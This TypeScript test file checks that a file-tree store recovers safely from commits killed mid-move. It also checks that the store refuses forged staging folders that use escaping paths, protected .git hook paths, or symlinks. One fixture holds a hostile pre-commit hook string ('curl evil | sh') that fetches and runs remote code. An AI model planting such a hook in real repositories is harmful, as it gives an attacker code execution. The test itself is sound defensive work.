/**
 * A commit killed mid-move (SIGKILL, a crash, a power cut) leaves `.synthesis-staging-*` holding the only
 * copies of the files it replaced. The next run must put the tree back as it was, or finish nothing and
 * say clearly where the backups are; it never deletes a backup silently. The kills here are real: a child
 * process commits through FsTreeStore and SIGKILLs itself right before its n-th file-system call.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { FsTreeStore, STAGING_PREFIX } from '../../tasks/CodeSynthesis/src/adapters/fs/tree-store';
import { InputError, WriteError } from '../../tasks/CodeSynthesis/src/core/errors';
import type { FileToWrite } from '../../tasks/CodeSynthesis/src/core/ports';
import { commitInChild } from '../support/killed-commit';
import { snapshotTree } from '../support/tree-snapshot';

/** Overwrites two files, creates two (one in new folders), and the manifest. */
const FILES: FileToWrite[] = [
  { path: 'src/old.ts', content: 'replaced\n' },
  { path: 'deep/er/new.ts', content: 'created\n' },
  { path: 'keep.md', content: 'changed\n' },
  { path: 'z.ts', content: 'last\n' },
  { path: '.synthesis/manifest.json', content: '{"files":[]}\n' },
];

interface Logged {
  level: 'info' | 'warn';
  text: string;
}

function recordingLog(): { lines: Logged[]; info(t: string): void; warn(t: string): void } {
  const lines: Logged[] = [];
  return {
    lines,
    info: (text) => lines.push({ level: 'info', text }),
    warn: (text) => lines.push({ level: 'warn', text }),
  };
}

async function rejection(promise: Promise<unknown>): Promise<unknown> {
  try {
    await promise;
  } catch (error) {
    return error;
  }
  return assert.fail('expected a rejection');
}

const sha256 = (text: string): string => createHash('sha256').update(text, 'utf8').digest('hex');

describe('FsTreeStore: recovery of a commit killed mid-move', function () {
  this.timeout(120_000);
  let tmp: string;
  let root: string;

  beforeEach(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tree-recovery-'));
    root = path.join(tmp, 'out');
    seed();
  });
  afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));

  function seed(): void {
    fs.rmSync(root, { recursive: true, force: true });
    fs.mkdirSync(path.join(root, 'src'), { recursive: true });
    fs.writeFileSync(path.join(root, 'src', 'old.ts'), 'old\n');
    fs.chmodSync(path.join(root, 'src', 'old.ts'), 0o600);
    fs.writeFileSync(path.join(root, 'keep.md'), 'keep\n');
    fs.writeFileSync(path.join(root, 'untouched.md'), 'untouched\n');
  }

  const stagingFolders = (): string[] => fs.readdirSync(root).filter((n) => n.startsWith(STAGING_PREFIX));

  it('killed right before any one of its file-system calls, the next run finds the tree as it was, or as committed', async () => {
    const before = snapshotTree(root);
    assert.equal(commitInChild(root, FILES, {}), 'done');
    const committed = snapshotTree(root);
    seed();

    let partial = 0;
    let rolledBack = 0;
    let sawCommitted = false;
    for (let killAt = 1; ; killAt++) {
      seed();
      const outcome = commitInChild(root, FILES, { killAt });
      if (outcome === 'done') {
        assert.ok(killAt > 20, `the commit made only ${killAt - 1} file-system calls`);
        break;
      }
      const left = snapshotTree(root);
      const withoutStaging = Object.fromEntries(
        Object.entries(left).filter(([k]) => !k.startsWith(STAGING_PREFIX)),
      );
      const isPartial =
        JSON.stringify(withoutStaging) !== JSON.stringify(before) &&
        JSON.stringify(withoutStaging) !== JSON.stringify(committed);
      if (isPartial) partial++;

      const log = recordingLog();
      await new FsTreeStore(root, { log }).inspect(['any.ts']);
      const after = snapshotTree(root);
      const context = `killed at call ${killAt}; log: ${JSON.stringify(log.lines)}`;
      assert.deepEqual(stagingFolders(), [], `no staging folder is left (${context})`);
      if (JSON.stringify(after) === JSON.stringify(committed)) {
        sawCommitted = true;
        assert.ok(!isPartial, `a partial move is never completed by recovery (${context})`);
      } else {
        assert.deepEqual(after, before, `the tree is as it was before the killed run (${context})`);
        assert.ok(!sawCommitted, `once committed, a later kill cannot undo the commit (${context})`);
        if (isPartial) rolledBack++;
      }
      if (Object.keys(left).some((k) => k.startsWith(STAGING_PREFIX)))
        assert.ok(log.lines.length > 0, `the recovery says what it did (${context})`);
    }
    assert.ok(partial >= 4, `the kills hit the move itself ${partial} times`);
    assert.equal(rolledBack, partial, 'every partial move was rolled back');
  });

  it('says what it restored, naming the staging folder', async () => {
    assert.equal(commitInChild(root, FILES, { killBefore: 'keep.md' }), 'killed');
    const [staging] = stagingFolders();
    assert.ok(staging);
    assert.equal(
      fs.readFileSync(path.join(root, 'src/old.ts'), 'utf8'),
      'replaced\n',
      'the kill was mid-move',
    );
    const log = recordingLog();
    await new FsTreeStore(root, { log }).inspect(['x.ts']);
    assert.deepEqual(log.lines, [
      {
        level: 'warn',
        text: `Found ${staging}, left by a run that was interrupted while moving files into place; restored the output directory as it was before that run: put back 2 replaced file(s) and removed 1 file(s) and 2 folder(s) it had created.`,
      },
    ]);
    assert.equal(fs.readFileSync(path.join(root, 'src/old.ts'), 'utf8'), 'old\n');
    assert.equal(fs.statSync(path.join(root, 'src/old.ts')).mode & 0o777, 0o600);
    assert.equal(fs.existsSync(path.join(root, 'deep')), false);
  });

  it('a commit restores a leftover before it writes, and then writes as usual', async () => {
    assert.equal(commitInChild(root, FILES, { killBefore: 'z.ts' }), 'killed');
    await new FsTreeStore(root).commit(
      [{ path: 'fresh.ts', content: 'fresh\n' }],
      new AbortController().signal,
    );
    assert.equal(fs.readFileSync(path.join(root, 'keep.md'), 'utf8'), 'keep\n');
    assert.equal(fs.readFileSync(path.join(root, 'fresh.ts'), 'utf8'), 'fresh\n');
    assert.equal(fs.existsSync(path.join(root, 'deep')), false);
    assert.deepEqual(stagingFolders(), []);
  });

  it('refuses, keeping every backup, when a file the killed run wrote was changed since', async () => {
    assert.equal(commitInChild(root, FILES, { killBefore: 'keep.md' }), 'killed');
    fs.writeFileSync(path.join(root, 'src/old.ts'), 'edited by hand after the crash\n');
    const [staging] = stagingFolders();
    const left = snapshotTree(root);
    const error = await rejection(new FsTreeStore(root).inspect(['x.ts']));
    assert.ok(error instanceof WriteError, String(error));
    assert.equal(error.subject, 'outputDirectory');
    assert.match(
      error.message,
      new RegExp(
        `^The output directory holds ${staging}, left by a run that was interrupted while moving files into place, and the task cannot tell how to undo it:\\n {2}- "src/old\\.ts" was changed after that run wrote it\\.$`,
      ),
    );
    assert.match(
      error.hint,
      new RegExp(
        `^Nothing was changed\\. The files that run replaced are in ${path.join(root, staging!, 'old').replace(/[.\\/]/g, '\\$&')}, numbered as in journal\\.json there: restore what you need, then delete ${staging} and run again\\.$`,
      ),
    );
    assert.deepEqual(snapshotTree(root), left, 'nothing was changed, the backups are kept');
  });

  it('after a restore that failed in the run itself, the next run finishes it', async () => {
    // The first run's rollback cannot put src/old.ts back (EROFS); it keeps the backup and says so.
    const before = snapshotTree(root);
    let restoring = false;
    const fsp = await import('node:fs/promises');
    const store = new FsTreeStore(root, {
      fs: {
        rename: async (from, to) => {
          if (String(to).endsWith('z.ts')) {
            restoring = true;
            throw Object.assign(new Error('injected'), { code: 'EIO' });
          }
          if (restoring && String(to).endsWith('old.ts'))
            throw Object.assign(new Error('injected'), { code: 'EROFS' });
          return fsp.rename(from, to);
        },
      },
    });
    const error = await rejection(store.commit(FILES, new AbortController().signal));
    assert.ok(error instanceof WriteError);
    assert.match(error.hint, /the next run of the task puts them back/);
    const log = recordingLog();
    await new FsTreeStore(root, { log }).inspect(['x.ts']);
    assert.deepEqual(snapshotTree(root), before);
    assert.equal(log.lines.length, 1);
  });

  describe('staging folders it cannot account for', () => {
    /** A staging folder as a killed run of another kind would leave it. */
    function leftover(name: string, journal: unknown, backups: Record<string, string> = {}): string {
      const dir = path.join(root, name);
      fs.mkdirSync(path.join(dir, 'new'), { recursive: true });
      fs.mkdirSync(path.join(dir, 'old'));
      if (journal !== undefined)
        fs.writeFileSync(
          path.join(dir, 'journal.json'),
          typeof journal === 'string' ? journal : JSON.stringify(journal),
        );
      for (const [n, text] of Object.entries(backups)) fs.writeFileSync(path.join(dir, 'old', n), text);
      return dir;
    }
    const moving = (files: unknown[], extra: Record<string, unknown> = {}) => ({
      version: 1,
      phase: 'moving',
      pid: 2 ** 22 + 1,
      host: os.hostname(),
      files,
      dirs: [],
      ...extra,
    });

    it('no journal (an older version, or a crash before the move) and no backups: removed, and said', async () => {
      leftover(`${STAGING_PREFIX}0a0a0a`, undefined);
      fs.writeFileSync(path.join(root, `${STAGING_PREFIX}0a0a0a`, 'new', '0'), 'staged\n');
      const before = snapshotTree(root);
      const log = recordingLog();
      await new FsTreeStore(root, { log }).inspect(['x.ts']);
      assert.deepEqual(stagingFolders(), []);
      assert.deepEqual(
        snapshotTree(root),
        Object.fromEntries(Object.entries(before).filter(([k]) => !k.startsWith(STAGING_PREFIX))),
      );
      assert.deepEqual(log.lines, [
        {
          level: 'info',
          text: `Removed ${STAGING_PREFIX}0a0a0a, left by a run that was interrupted before it changed the output directory.`,
        },
      ]);
    });

    it('no journal but backups: refuses, naming the folder and the backups', async () => {
      leftover(`${STAGING_PREFIX}0b0b0b`, undefined, { '0': 'the only copy\n' });
      const before = snapshotTree(root);
      const error = await rejection(new FsTreeStore(root).inspect(['x.ts']));
      assert.ok(error instanceof WriteError, String(error));
      assert.match(error.message, /holds \.synthesis-staging-0b0b0b, left by an interrupted run/);
      assert.match(error.message, /no journal says what it changed; its old folder holds 1 replaced file/);
      assert.match(error.hint, /restore what you need, then delete \.synthesis-staging-0b0b0b and run again/);
      assert.deepEqual(snapshotTree(root), before);
    });

    it('an unreadable journal: refuses', async () => {
      leftover(`${STAGING_PREFIX}0c0c0c`, '{"version":1,"phase":"mov');
      const error = await rejection(new FsTreeStore(root).inspect(['x.ts']));
      assert.ok(error instanceof WriteError, String(error));
      assert.match(error.message, /its journal\.json cannot be read/);
    });

    it('a journal naming a protected or escaping path (a forged folder in the repository): refuses, writes nothing', async () => {
      const evil = '#!/bin/sh\ncurl evil | sh\n';
      leftover(
        `${STAGING_PREFIX}0d0d0d`,
        moving([
          { path: '.git/hooks/pre-commit', sha256: sha256('x'), replaces: true },
          { path: '../outside.txt', sha256: sha256('x'), replaces: true },
        ]),
        { '0': evil, '1': evil },
      );
      fs.mkdirSync(path.join(root, '.git', 'hooks'), { recursive: true });
      const before = snapshotTree(tmp);
      const error = await rejection(new FsTreeStore(root).inspect(['x.ts']));
      assert.ok(error instanceof WriteError, String(error));
      assert.match(error.message, /"\.git\/hooks\/pre-commit": is a protected path/);
      assert.match(error.message, /"\.\.\/outside\.txt": contains a '\.\.' segment/);
      assert.deepEqual(snapshotTree(tmp), before);
    });

    it('a staging folder of a run still going on this machine: refuses, touches nothing', async () => {
      leftover(`${STAGING_PREFIX}0e0e0e`, moving([], { pid: process.pid + 1 }));
      const before = snapshotTree(root);
      const error = await rejection(
        new FsTreeStore(root, { isAlive: (pid) => pid === process.pid + 1 }).inspect(['x.ts']),
      );
      assert.ok(error instanceof WriteError, String(error));
      assert.match(
        error.message,
        new RegExp(`process ${process.pid + 1} on this machine, which is still running`),
      );
      assert.deepEqual(snapshotTree(root), before);
    });

    it('a finished move whose clean-up was cut short: the leftover is removed, and said', async () => {
      leftover(
        `${STAGING_PREFIX}0f0f0f`,
        { version: 1, phase: 'done', pid: 2 ** 22 + 1, host: os.hostname() },
        {
          '0': 'superseded\n',
        },
      );
      const log = recordingLog();
      await new FsTreeStore(root, { log }).inspect(['x.ts']);
      assert.deepEqual(stagingFolders(), []);
      assert.deepEqual(log.lines, [
        {
          level: 'info',
          text: `Removed ${STAGING_PREFIX}0f0f0f, left by a run that had finished moving its files into place (it held 1 file(s) that run replaced).`,
        },
      ]);
    });

    describe('a forged staging folder reaching outside the output directory through a symlink', () => {
      /** The review's reproduction: new/ empty, old -> a folder outside holding "0", a journal placing it as loot.txt. */
      function forge(link: 'old' | 'new' | 'journal.json' | 'old/0'): { outside: string; dir: string } {
        const outside = path.join(tmp, 'outside');
        fs.mkdirSync(outside, { recursive: true });
        fs.writeFileSync(path.join(outside, '0'), 'data from outside\n');
        const journal = {
          version: 1,
          phase: 'moving',
          pid: 999999,
          host: 'x',
          files: [{ path: 'loot.txt', sha256: 'a'.repeat(64), replaces: true }],
          dirs: [],
        };
        const dir = path.join(root, `${STAGING_PREFIX}aaaa`);
        fs.mkdirSync(dir);
        if (link !== 'new') fs.mkdirSync(path.join(dir, 'new'));
        if (link !== 'old') fs.mkdirSync(path.join(dir, 'old'));
        if (link === 'old' || link === 'new') fs.symlinkSync(outside, path.join(dir, link));
        if (link === 'new') fs.writeFileSync(path.join(dir, 'old', '0'), 'backup\n');
        if (link === 'old/0') fs.symlinkSync(path.join(outside, '0'), path.join(dir, 'old', '0'));
        if (link === 'journal.json') {
          fs.writeFileSync(path.join(outside, 'journal.json'), JSON.stringify(journal));
          fs.symlinkSync(path.join(outside, 'journal.json'), path.join(dir, 'journal.json'));
        } else fs.writeFileSync(path.join(dir, 'journal.json'), JSON.stringify(journal));
        return { outside, dir };
      }

      for (const [link, what] of [
        ['old', /its old folder is a symlink or not a folder/],
        ['new', /its new folder is a symlink or not a folder/],
        ['journal.json', /its journal\.json is a symlink or not a file/],
        ['old/0', /"old\/0" is a symlink or not a file/],
      ] as const) {
        it(`${link} is a symlink: refuses naming the folder, moves nothing in or out`, async () => {
          const { dir } = forge(link);
          const before = snapshotTree(tmp);
          for (const store of [new FsTreeStore(root), new FsTreeStore(root)]) {
            const error = await rejection(store.inspect(['x.ts']));
            assert.ok(error instanceof WriteError, String(error));
            assert.equal(error.subject, 'outputDirectory');
            assert.match(error.message, new RegExp(`holds ${STAGING_PREFIX}aaaa`));
            assert.match(error.message, what);
            assert.match(
              error.hint,
              new RegExp(`^Nothing was changed\\. .*${dir.replace(/[.\\/]/g, '\\$&')}`),
            );
          }
          assert.deepEqual(snapshotTree(tmp), before, 'nothing moved, inside or outside');
          assert.equal(fs.existsSync(path.join(root, 'loot.txt')), false);
          assert.equal(fs.readFileSync(path.join(tmp, 'outside', '0'), 'utf8'), 'data from outside\n');
        });
      }

      it("even a finished run's leftover with a symlinked old folder is refused, not followed", async () => {
        const { dir } = forge('old');
        fs.writeFileSync(
          path.join(dir, 'journal.json'),
          JSON.stringify({ version: 1, phase: 'done', pid: 999999, host: 'x' }),
        );
        const before = snapshotTree(tmp);
        const error = await rejection(new FsTreeStore(root).inspect(['x.ts']));
        assert.ok(error instanceof WriteError, String(error));
        assert.deepEqual(snapshotTree(tmp), before);
      });
    });

    it('a file or a symlink named like a staging folder is not touched', async () => {
      fs.writeFileSync(path.join(root, `${STAGING_PREFIX}1234`), 'a file\n');
      fs.symlinkSync(tmp, path.join(root, `${STAGING_PREFIX}5678`));
      const before = snapshotTree(tmp);
      await new FsTreeStore(root).inspect(['x.ts']);
      assert.deepEqual(snapshotTree(tmp), before);
    });
  });
});

describe('FsTreeStore: an output directory reached through a symlink inside the sources directory', () => {
  let tmp: string;
  let sources: string;
  let elsewhere: string;
  beforeEach(() => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tree-confined-'));
    sources = path.join(tmp, 's');
    elsewhere = path.join(tmp, 'elsewhere');
    fs.mkdirSync(sources);
    fs.mkdirSync(elsewhere);
  });
  afterEach(() => fs.rmSync(tmp, { recursive: true, force: true }));

  const write = (root: string): Promise<void> =>
    new FsTreeStore(root, { confinedTo: sources }).commit(
      [{ path: 'a.ts', content: 'a\n' }],
      new AbortController().signal,
    );

  for (const [label, link, root] of [
    ['the output directory is a symlink', 'gen', 'gen'],
    ['a folder above it is a symlink', 'linked', 'linked/deeper/gen'],
  ] as const) {
    it(`${label}: refused on outputDirectory, naming the symlink, nothing written`, async () => {
      fs.mkdirSync(path.join(elsewhere, 'deeper', 'gen'), { recursive: true });
      fs.symlinkSync(
        link === 'gen' ? path.join(elsewhere, 'deeper', 'gen') : elsewhere,
        path.join(sources, link),
      );
      const before = snapshotTree(tmp);
      const abs = path.join(sources, ...root.split('/'));
      for (const attempt of [write(abs), new FsTreeStore(abs, { confinedTo: sources }).inspect(['a.ts'])]) {
        const error = await rejection(attempt);
        assert.ok(error instanceof InputError, String(error));
        assert.equal(error.subject, 'outputDirectory');
        assert.equal(
          error.message,
          `Input 'outputDirectory': '${abs}' is reached through the symlink '${path.join(sources, link)}' inside the sources directory '${sources}'.`,
        );
        assert.match(
          error.hint,
          /Set 'outputDirectory' to a real folder, or replace the symlink with a folder/,
        );
      }
      assert.deepEqual(snapshotTree(tmp), before);
    });
  }

  it('real folders, a missing output directory, and a symlinked sources directory itself are fine', async () => {
    fs.mkdirSync(path.join(sources, 'real'));
    await write(path.join(sources, 'real', 'new', 'gen'));
    assert.ok(fs.existsSync(path.join(sources, 'real', 'new', 'gen', 'a.ts')));
    fs.symlinkSync(sources, path.join(tmp, 'alias'));
    await new FsTreeStore(path.join(tmp, 'alias', 'x'), { confinedTo: path.join(tmp, 'alias') }).commit(
      [{ path: 'b.ts', content: 'b\n' }],
      new AbortController().signal,
    );
    assert.ok(fs.existsSync(path.join(sources, 'x', 'b.ts')));
  });

  it('an output directory outside the sources directory is not checked', async () => {
    fs.symlinkSync(elsewhere, path.join(tmp, 'outside-link'));
    await write(path.join(tmp, 'outside-link'));
    assert.ok(fs.existsSync(path.join(elsewhere, 'a.ts')));
  });
});
